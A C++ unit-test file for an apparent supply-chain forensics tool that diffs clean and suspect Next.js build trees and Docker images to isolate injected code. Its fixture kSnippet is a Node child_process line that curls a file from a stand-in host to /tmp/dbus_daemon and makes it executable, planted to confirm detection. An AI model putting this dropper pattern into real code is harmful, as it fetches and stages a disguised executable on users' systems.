#include "sources/tree_diff.h"

#include <archive.h>
#include <archive_entry.h>
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "core/test_dir.h"
#include "match/js_heuristics.h"
#include "match/rule_pack.h"

namespace deminer {
namespace {

namespace fs = std::filesystem;

void Write(const std::string& path, std::string_view text, fs::perms perms = fs::perms(0644)) {
  fs::create_directories(fs::path(path).parent_path());
  std::ofstream(path, std::ios::binary) << text;
  fs::permissions(path, perms);
}

std::string Slurp(const std::string& file) {
  std::ifstream in(file, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

const FileChange* Find(const TreeDiff& d, ChangeKind kind, std::string_view path) {
  for (const FileChange& c : d.changes) {
    if (c.kind == kind && c.path == path) return &c;
  }
  return nullptr;
}

const NoiseEntry* FindNoise(const TreeDiff& d, std::string_view path) {
  for (const NoiseEntry& n : d.noise) {
    if (n.path == path || (n.path.empty() && n.clean_path == path)) return &n;
  }
  return nullptr;
}

bool Has(const std::vector<std::string>& v, std::string_view s) {
  return std::find(v.begin(), v.end(), s) != v.end();
}

std::string Describe(const TreeDiff& d) {
  std::string s;
  for (const FileChange& c : d.changes) {
    s += std::string(ChangeKindName(c.kind)) + " " + c.path + " [" + c.clean_path + "] " + c.note +
         "\n";
  }
  for (const NoiseEntry& n : d.noise) s += "noise " + n.clean_path + " -> " + n.path + "\n";
  for (const Gap& g : d.skipped) s += "skipped " + g.what + ": " + g.reason + "\n";
  return s;
}

// A minified one-line bundle, like a Next.js server chunk.
std::string Bundle(std::string_view id) {
  std::string s = "\"use strict\";(()=>{var e={};e.id=\"";
  s += id;
  s += "\";";
  for (int i = 0; i < 400; ++i) {
    s += fmt::format("e.m{}=function(t,r,n){{return t+r*{}}},", i, i);
  }
  s += "module.exports=e})();";
  return s;
}

const std::string kSnippet =
    "require('child_process').exec('curl -s http://127.0.0.1:9/d -o /tmp/dbus_daemon && "
    "chmod +x /tmp/dbus_daemon');";

TEST(TreeDiffTest, TokensEndAtStatementAndBlockDelimiters) {
  const auto t = DiffTokens("a;b,c{d}e\nf");
  ASSERT_EQ(t.size(), 6u);
  EXPECT_EQ(t[0], "a;");
  EXPECT_EQ(t[1], "b,");
  EXPECT_EQ(t[2], "c{");
  EXPECT_EQ(t[3], "d}");
  EXPECT_EQ(t[4], "e\n");
  EXPECT_EQ(t[5], "f");
  EXPECT_TRUE(DiffTokens("").empty());
}

TEST(TreeDiffTest, InjectionIntoOneLineBundleIsAHunkOfJustTheSnippet) {
  const std::string clean = Bundle("x");
  std::string suspect = clean;
  const size_t at = suspect.find("e.m200=");
  ASSERT_NE(at, std::string::npos);
  suspect.insert(at, kSnippet);
  const TextDiff d = DiffText(clean, suspect, TreeDiffLimits{});
  ASSERT_EQ(d.hunks.size(), 1u);
  EXPECT_FALSE(d.capped);
  EXPECT_EQ(d.hunks[0].added, kSnippet);
  EXPECT_EQ(d.hunks[0].removed, "");
  EXPECT_EQ(d.hunks[0].offset, at);
  EXPECT_EQ(d.hunks[0].clean_offset, at);
  EXPECT_EQ(d.hunks[0].line, 1);
  EXPECT_EQ(d.hunks[0].added_bytes, kSnippet.size());
}

TEST(TreeDiffTest, ChangedLinesGiveLineNumbersAndBothSides) {
  const std::string clean = "line one\nline two\nline three\nline four\n";
  const std::string suspect = "line one\nline two\nline 3 changed\nline four\nline five\n";
  const TextDiff d = DiffText(clean, suspect, TreeDiffLimits{});
  ASSERT_EQ(d.hunks.size(), 2u);
  EXPECT_EQ(d.hunks[0].line, 3);
  EXPECT_EQ(d.hunks[0].removed, "line three\n");
  EXPECT_EQ(d.hunks[0].added, "line 3 changed\n");
  EXPECT_EQ(d.hunks[1].line, 5);
  EXPECT_EQ(d.hunks[1].added, "line five\n");
  EXPECT_EQ(d.hunks[1].offset, suspect.find("line five"));
}

TEST(TreeDiffTest, CapsFallBackToPrefixAndSuffixTrimmingAndSaySo) {
  const std::string clean = Bundle("x");
  std::string suspect = clean;
  // Many scattered edits: over an edit-distance cap of 10 tokens.
  for (int i = 0; i < 50; ++i) {
    const std::string from = fmt::format("t+r*{}}}", i * 7);
    const size_t at = suspect.find(from);
    ASSERT_NE(at, std::string::npos);
    suspect.replace(at, from.size(), fmt::format("t-r*{}}}", i * 7));
  }
  TreeDiffLimits limits;
  limits.max_edit_distance = 10;
  const TextDiff d = DiffText(clean, suspect, limits);
  EXPECT_TRUE(d.capped);
  EXPECT_NE(d.note.find("capped"), std::string::npos) << d.note;
  ASSERT_EQ(d.hunks.size(), 1u);
  EXPECT_EQ(d.hunks[0].offset, clean.find("t+r*0}") + 1);
  EXPECT_LT(d.hunks[0].added_bytes, suspect.size());
  // The token cap too.
  TreeDiffLimits tokens;
  tokens.max_diff_tokens = 5;
  EXPECT_TRUE(DiffText(clean, suspect, tokens).capped);
  // And the hunk text is bounded.
  limits.max_hunk_bytes = 16;
  const TextDiff b = DiffText(clean, suspect, limits);
  ASSERT_EQ(b.hunks.size(), 1u);
  EXPECT_EQ(b.hunks[0].added.size(), 16u);
  EXPECT_GT(b.hunks[0].added_bytes, 16u);
  // Without the cap the same edits are 50 hunks, bounded by max_hunks.
  TreeDiffLimits few;
  few.max_hunks = 20;
  const TextDiff f = DiffText(clean, suspect, few);
  EXPECT_FALSE(f.capped);
  EXPECT_EQ(f.hunks.size(), 20u);
  EXPECT_EQ(f.hunks_omitted, 30u);
}

TEST(TreeDiffTest, NormaliseNameReplacesHashSegmentsOnly) {
  const std::vector<std::string> ids = {"DJb46X3-kBlChZMGgUJXb"};
  struct Case {
    std::string a, b;
    bool same;
  };
  const Case cases[] = {
      {"static/chunks/app-3f9a1c2b.js", "static/chunks/app-77e0d4aa.js", true},
      {"static/chunks/pages/index-3f9a1c2b4d5e6f70.js",
       "static/chunks/pages/index-0123456789abcdef.js", true},
      {"static/css/3f9a1c2b4d5e6f70.css", "static/css/aabbccddeeff0011.css", true},
      {"static/chunks/123-3f9a1c2b4d5e6f70.js", "static/chunks/456-aabbccddeeff0011.js", true},
      {"server/chunks/ssr/[root-of-the-server]__0_wo2si-eecmd._.js",
       "server/chunks/ssr/[root-of-the-server]__1yu7-01gfta2c._.js", true},
      {"static/chunks/turbopack-2u1d16houkiyo.js", "static/chunks/turbopack-0cz1d0mv5g_q7.js",
       true},
      {"static/DJb46X3-kBlChZMGgUJXb/_buildManifest.js", "static/<id>/_buildManifest.js", true},
      {"static/chunks/app-3f9a1c2b.js", "static/chunks/page-3f9a1c2b.js", false},
      {"node_modules/react/index.js", "node_modules/react/cjs.js", false},
      {"lib/base64.js", "lib/base32.js", false},
      {"server/app/page.js", "server/app/page.js", true},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(NormaliseName(c.a, ids, nullptr) == NormaliseName(c.b, ids, nullptr), c.same)
        << c.a << " ~ " << c.b << ": " << NormaliseName(c.a, ids, nullptr) << " / "
        << NormaliseName(c.b, ids, nullptr);
  }
  EXPECT_EQ(NormaliseName("node_modules/react-dom/cjs/react-dom.production.min.js", ids, nullptr),
            "node_modules/react-dom/cjs/react-dom.production.min.js");
  std::vector<std::string> seg;
  NormaliseName("static/chunks/app-3f9a1c2b.js", ids, &seg);
  EXPECT_TRUE(Has(seg, "3f9a1c2b"));
}

TEST(TreeDiffTest, NormaliseContentReplacesIdsHashesKeysAndTimes) {
  NoiseStrings n;
  n.build_ids = {"DJb46X3-kBlChZMGgUJXb", "UsEVikZ7m_0rrds1OTKFS"};
  n.hashes = {"3f9a1c2b", "77e0d4aa"};
  std::vector<std::string> reasons;
  EXPECT_EQ(NormaliseContent("a=\"DJb46X3-kBlChZMGgUJXb\";b=\"/app-3f9a1c2b.js\"", n, false,
                             &reasons),
            NormaliseContent("a=\"UsEVikZ7m_0rrds1OTKFS\";b=\"/app-77e0d4aa.js\"", n, false,
                             nullptr));
  EXPECT_TRUE(Has(reasons, "build id"));
  EXPECT_TRUE(Has(reasons, "hashed name"));
  // Keys: JSON, and JSON inside a JS string.
  EXPECT_EQ(NormaliseContent(R"({"previewModeId": "b30e63ee", "buildTime": 1700000000})", n, true,
                             nullptr),
            NormaliseContent(R"({"previewModeId": "0360d709", "buildTime": 1800000000})", n, true,
                             nullptr));
  EXPECT_EQ(NormaliseContent(R"(self.M="{\"encryptionKey\":\"vEKN=\"}")", n, true, nullptr),
            NormaliseContent(R"(self.M="{\"encryptionKey\":\"X/wc=\"}")", n, true, nullptr));
  // Not in code (json_keys off), and never other keys.
  EXPECT_NE(NormaliseContent(R"({"time": 1})", n, false, nullptr),
            NormaliseContent(R"({"time": 2})", n, false, nullptr));
  EXPECT_NE(NormaliseContent(R"({"url": "a"})", n, true, nullptr),
            NormaliseContent(R"({"url": "b"})", n, true, nullptr));
  // A hash inside a longer word is not replaced.
  EXPECT_NE(NormaliseContent("x3f9a1c2b", n, false, nullptr),
            NormaliseContent("x77e0d4aa", n, false, nullptr));
}

TEST(TreeDiffTest, AddedRemovedChangedModeAndSymlinksOfTwoTrees) {
  TestDir clean;
  TestDir suspect;
  for (const TestDir* d : {&clean, &suspect}) {
    Write(*d / "same.txt", "same\n");
    Write(*d / "lib/util.js", "module.exports = 1;\n");
  }
  Write(clean / "gone.js", "old\n");
  Write(suspect / "new.js", "fresh\n");
  Write(clean / "app.js", "a();\nb();\n");
  Write(suspect / "app.js", "a();\nevil();\nb();\n");
  Write(clean / "run.sh", "echo\n", fs::perms(0644));
  Write(suspect / "run.sh", "echo\n", fs::perms(0755));
  Write(clean / "blob.bin", std::string("\0\1\2", 3));
  Write(suspect / "blob.bin", std::string("\0\1\3", 3));
  fs::create_symlink("/etc/hostname", clean / "link");
  fs::create_symlink("/etc/passwd", suspect / "link");  // compared as a target, not followed
  ASSERT_EQ(mkfifo((suspect / "fifo").c_str(), 0644), 0);  // skipped

  const auto d = DiffTrees(clean.path(), suspect.path(), TreeDiffOptions{});
  ASSERT_TRUE(d.has_value()) << d.error().message();
  EXPECT_EQ(d->kind, "directory");
  ASSERT_NE(Find(*d, ChangeKind::kAdded, "new.js"), nullptr) << Describe(*d);
  EXPECT_TRUE(Find(*d, ChangeKind::kAdded, "new.js")->text);
  ASSERT_NE(Find(*d, ChangeKind::kRemoved, "gone.js"), nullptr);
  const FileChange* app = Find(*d, ChangeKind::kChanged, "app.js");
  ASSERT_NE(app, nullptr);
  ASSERT_EQ(app->hunks.size(), 1u);
  EXPECT_EQ(app->hunks[0].added, "evil();\n");
  EXPECT_EQ(app->hunks[0].line, 2);
  EXPECT_NE(app->sha256, app->clean_sha256);
  EXPECT_EQ(app->sha256.size(), 64u);
  const FileChange* mode = Find(*d, ChangeKind::kModeChanged, "run.sh");
  ASSERT_NE(mode, nullptr);
  EXPECT_EQ(mode->clean_mode, 0644u);
  EXPECT_EQ(mode->mode, 0755u);
  const FileChange* blob = Find(*d, ChangeKind::kChanged, "blob.bin");
  ASSERT_NE(blob, nullptr);
  EXPECT_EQ(blob->note, "binary");
  EXPECT_TRUE(blob->hunks.empty());
  const FileChange* link = Find(*d, ChangeKind::kChanged, "link");
  ASSERT_NE(link, nullptr);
  EXPECT_EQ(link->type, "symlink");
  EXPECT_EQ(link->link_target, "/etc/passwd");
  EXPECT_EQ(link->clean_link_target, "/etc/hostname");
  EXPECT_EQ(Find(*d, ChangeKind::kAdded, "fifo"), nullptr);
  EXPECT_EQ(Find(*d, ChangeKind::kChanged, "same.txt"), nullptr);
  EXPECT_EQ(d->changes.size(), 6u) << Describe(*d);
  EXPECT_TRUE(d->noise.empty()) << Describe(*d);
}

// Two builds of the same source: build ids, hashed names, per-build keys and
// traces differ; one chunk (renamed by its hash) carries an injection.
TEST(TreeDiffTest, BuildNoiseIsNormalisedAndTheInjectionStands) {
  TestDir clean;
  TestDir suspect;
  const std::string id1 = "DJb46X3-kBlChZMGgUJXb";
  const std::string id2 = "UsEVikZ7m_0rrds1OTKFS";
  const auto build = [&](const TestDir& d, const std::string& id, const std::string& h1,
                         const std::string& h2, bool plant) {
    Write(d / ".next/BUILD_ID", id);
    Write(d / (".next/static/" + id + "/_buildManifest.js"),
          "self.__BUILD_MANIFEST={\"/\":[\"static/chunks/app-" + h1 + ".js\"]};");
    Write(d / (".next/static/chunks/app-" + h1 + ".js"), "(()=>{console.log(\"" + id + "\")})();");
    std::string chunk = Bundle("x");
    if (plant) chunk.insert(chunk.find("e.m50="), kSnippet);
    Write(d / (".next/server/chunks/ssr/page-" + h2 + ".js"), chunk);
    Write(d / ".next/prerender-manifest.json",
          "{\"preview\":{\"previewModeId\":\"" + h1 + h2 + "\"},\"buildTime\":" +
              std::to_string(h1.size() * 1000 + h2[0]) + "}");
    Write(d / ".next/trace", "[{\"name\":\"build\",\"duration\":" + h2 + "}]");
    Write(d / ".next/cache/webpack/0.pack", h1 + h2);
    Write(d / ".next/server/app/page.js", "require(\"../chunks/ssr/page-" + h2 + ".js\");");
  };
  build(clean, id1, "3f9a1c2b", "0a1b2c3d4e5f6a7b", false);
  build(suspect, id2, "77e0d4aa", "9f8e7d6c5b4a3f2e", true);

  const auto d = DiffTrees(clean.path(), suspect.path(), TreeDiffOptions{});
  ASSERT_TRUE(d.has_value()) << d.error().message();
  EXPECT_EQ(d->clean_build_ids, std::vector<std::string>{id1});
  EXPECT_EQ(d->suspect_build_ids, std::vector<std::string>{id2});
  // The only change: the planted chunk, paired with the clean one by its name's shape.
  ASSERT_EQ(d->changes.size(), 1u) << Describe(*d);
  const FileChange& c = d->changes[0];
  EXPECT_EQ(c.kind, ChangeKind::kChanged);
  EXPECT_EQ(c.path, ".next/server/chunks/ssr/page-9f8e7d6c5b4a3f2e.js");
  EXPECT_EQ(c.clean_path, ".next/server/chunks/ssr/page-0a1b2c3d4e5f6a7b.js");
  ASSERT_EQ(c.hunks.size(), 1u);
  EXPECT_EQ(c.hunks[0].added, kSnippet);
  // The rest is noise, each with its reason.
  const NoiseEntry* bid = FindNoise(*d, ".next/BUILD_ID");
  ASSERT_NE(bid, nullptr) << Describe(*d);
  EXPECT_TRUE(Has(bid->reasons, "build id"));
  const NoiseEntry* manifest = FindNoise(*d, ".next/static/" + id2 + "/_buildManifest.js");
  ASSERT_NE(manifest, nullptr) << Describe(*d);
  EXPECT_EQ(manifest->clean_path, ".next/static/" + id1 + "/_buildManifest.js");
  EXPECT_TRUE(Has(manifest->reasons, "build id in name"));
  EXPECT_TRUE(Has(manifest->reasons, "hashed name"));
  const NoiseEntry* app = FindNoise(*d, ".next/static/chunks/app-77e0d4aa.js");
  ASSERT_NE(app, nullptr);
  EXPECT_TRUE(Has(app->reasons, "hashed name"));
  EXPECT_TRUE(Has(app->reasons, "build id"));
  const NoiseEntry* pre = FindNoise(*d, ".next/prerender-manifest.json");
  ASSERT_NE(pre, nullptr);
  EXPECT_TRUE(Has(pre->reasons, "per-build key"));
  EXPECT_TRUE(Has(pre->reasons, "timestamps"));
  ASSERT_NE(FindNoise(*d, ".next/trace"), nullptr);
  ASSERT_NE(FindNoise(*d, ".next/cache/webpack/0.pack"), nullptr);
  const NoiseEntry* page = FindNoise(*d, ".next/server/app/page.js");
  ASSERT_NE(page, nullptr);
  EXPECT_TRUE(Has(page->reasons, "hashed name"));
}

TEST(TreeDiffTest, HeuristicsOnTheAddedTextOfAHunkAlone) {
  auto rules = RulePack::Load({std::string(DEMINER_SOURCE_DIR) + "/rules"});
  ASSERT_TRUE(rules.has_value()) << rules.error().message();
  const JsHeuristics h(*rules);
  TestDir clean;
  TestDir suspect;
  const std::string chunk = Bundle("x");
  Write(clean / "chunk.js", chunk);
  Write(suspect / "chunk.js", std::string(chunk).insert(chunk.find("e.m50="), kSnippet));
  Write(clean / "version.js", "module.exports=\"1.0.0\";");
  Write(suspect / "version.js", "module.exports=\"1.0.1\";");
  Write(suspect / "added.js", "var cp=require('child_process');" + kSnippet);
  TreeDiffOptions options;
  options.inspect = [&h](FileChange& c, std::string_view text) {
    if (c.kind == ChangeKind::kAdded) {
      c.score = h.Score(text, c.signals);
      return;
    }
    for (DiffHunk& hunk : c.hunks) hunk.score = h.Score(hunk.added, hunk.signals);
  };
  const auto d = DiffTrees(clean.path(), suspect.path(), options);
  ASSERT_TRUE(d.has_value());
  const FileChange* planted = Find(*d, ChangeKind::kChanged, "chunk.js");
  ASSERT_NE(planted, nullptr);
  ASSERT_EQ(planted->hunks.size(), 1u);
  EXPECT_GE(planted->hunks[0].score, JsHeuristics::kReportScore);
  EXPECT_EQ(JsSeverity(planted->hunks[0].score, planted->hunks[0].signals), Severity::kCritical);
  const FileChange* version = Find(*d, ChangeKind::kChanged, "version.js");
  ASSERT_NE(version, nullptr);
  ASSERT_EQ(version->hunks.size(), 1u);
  EXPECT_EQ(JsSeverity(version->hunks[0].score, version->hunks[0].signals), Severity::kInfo);
  const FileChange* added = Find(*d, ChangeKind::kAdded, "added.js");
  ASSERT_NE(added, nullptr);
  EXPECT_EQ(JsSeverity(added->score, added->signals), Severity::kCritical);
}

TEST(TreeDiffTest, BoundsAreGapsNotFailures) {
  TestDir clean;
  TestDir suspect;
  for (int i = 0; i < 20; ++i) Write(suspect / fmt::format("f{}", i), "x");
  Write(clean / "big", std::string(4096, 'a'));
  Write(suspect / "big", std::string(4096, 'b'));
  Write(suspect / "a/b/c/d/e/deep.js", "x");
  TreeDiffOptions o;
  o.limits.max_file_bytes = 1024;
  o.limits.max_depth = 3;
  auto d = DiffTrees(clean.path(), suspect.path(), o);
  ASSERT_TRUE(d.has_value());
  bool big_gap = false;
  bool deep_gap = false;
  for (const Gap& g : d->skipped) {
    big_gap = big_gap || g.what.find("big") != std::string::npos;
    deep_gap = deep_gap || g.reason.find("deeper") != std::string::npos;
  }
  EXPECT_TRUE(big_gap) << Describe(*d);
  EXPECT_TRUE(deep_gap) << Describe(*d);
  EXPECT_EQ(Find(*d, ChangeKind::kAdded, "a/b/c/d/e/deep.js"), nullptr);
  o = TreeDiffOptions{};
  o.limits.max_entries = 5;
  d = DiffTrees(clean.path(), suspect.path(), o);
  ASSERT_TRUE(d.has_value());
  EXPECT_LE(d->suspect_entries, 5u);
  bool entries_gap = false;
  for (const Gap& g : d->skipped) entries_gap = entries_gap || g.reason.find("entries") != std::string::npos;
  EXPECT_TRUE(entries_gap) << Describe(*d);
}

TEST(TreeDiffTest, MissingPathsAndMismatchedKindsAreErrors) {
  TestDir dir;
  Write(dir / "file.txt", "not an image");
  EXPECT_EQ(DiffTrees(dir / "nope", dir.path(), {}).error().code(), ErrorCode::kNotFound);
  EXPECT_EQ(DiffTrees(dir.path(), dir / "nope", {}).error().code(), ErrorCode::kNotFound);
  EXPECT_EQ(DiffTrees(dir.path(), dir / "file.txt", {}).error().code(), ErrorCode::kInvalidInput);
  EXPECT_EQ(DiffTrees(dir / "file.txt", dir / "file.txt", {}).error().code(),
            ErrorCode::kInvalidInput);
}

// A one-layer `docker save` tarball holding `files`.
void DockerSave(const std::string& path, const std::string& work,
                const std::vector<std::pair<std::string, std::string>>& files) {
  const auto tar = [](const std::string& file,
                      const std::vector<std::pair<std::string, std::string>>& entries) {
    archive* a = archive_write_new();
    archive_write_set_format_pax_restricted(a);
    ASSERT_EQ(archive_write_open_filename(a, file.c_str()), ARCHIVE_OK);
    for (const auto& [name, data] : entries) {
      archive_entry* e = archive_entry_new();
      archive_entry_set_pathname(e, name.c_str());
      archive_entry_set_perm(e, 0644);
      archive_entry_set_filetype(e, AE_IFREG);
      archive_entry_set_size(e, static_cast<la_int64_t>(data.size()));
      ASSERT_EQ(archive_write_header(a, e), ARCHIVE_OK);
      archive_write_data(a, data.data(), data.size());
      archive_entry_free(e);
    }
    archive_write_close(a);
    archive_write_free(a);
  };
  const std::string layer = work + "/layer.tar";
  tar(layer, files);
  tar(path, {{"manifest.json", R"([{"Config":"config.json","RepoTags":["app:1"],"Layers":["layer.tar"]}])"},
             {"config.json", R"({"config":{"User":"node"},"rootfs":{"type":"layers"}})"},
             {"layer.tar", Slurp(layer)}});
}

TEST(TreeDiffTest, TwoImageArchivesCompareTheirRootFileSystemsAndCleanUp) {
  TestDir dir;
  TestDir work;
  const std::string chunk = Bundle("x");
  DockerSave(dir / "clean.tar", dir.path(),
             {{"app/.next/BUILD_ID", "DJb46X3-kBlChZMGgUJXb"}, {"app/server.js", chunk}});
  DockerSave(dir / "suspect.tar", dir.path(),
             {{"app/.next/BUILD_ID", "UsEVikZ7m_0rrds1OTKFS"},
              {"app/server.js", std::string(chunk).insert(10, kSnippet)},
              {"tmp/dbus_daemon", std::string("\x7f" "ELF\0\0", 6)}});
  TreeDiffOptions o;
  o.work_dir = work.path();
  const auto d = DiffTrees(dir / "clean.tar", dir / "suspect.tar", o);
  ASSERT_TRUE(d.has_value()) << d.error().message();
  EXPECT_EQ(d->kind, "image");
  EXPECT_EQ(d->suspect_ref, "app:1");
  const FileChange* server = Find(*d, ChangeKind::kChanged, "app/server.js");
  ASSERT_NE(server, nullptr) << Describe(*d);
  ASSERT_EQ(server->hunks.size(), 1u);
  EXPECT_NE(server->hunks[0].added.find("child_process"), std::string::npos);
  EXPECT_NE(Find(*d, ChangeKind::kAdded, "tmp/dbus_daemon"), nullptr);
  EXPECT_NE(FindNoise(*d, "app/.next/BUILD_ID"), nullptr);
  // The private work dirs are gone.
  EXPECT_TRUE(fs::is_empty(work.path()));
  // A broken archive that looks like an image is an error, not a crash.
  Write(dir / "broken.tar", Slurp(dir / "suspect.tar").substr(0, 700));
  const auto b = DiffTrees(dir / "clean.tar", dir / "broken.tar", o);
  if (b.has_value()) {
    EXPECT_FALSE(b->skipped.empty());
  }
  EXPECT_TRUE(fs::is_empty(work.path()));
}

}  // namespace
}  // namespace deminer
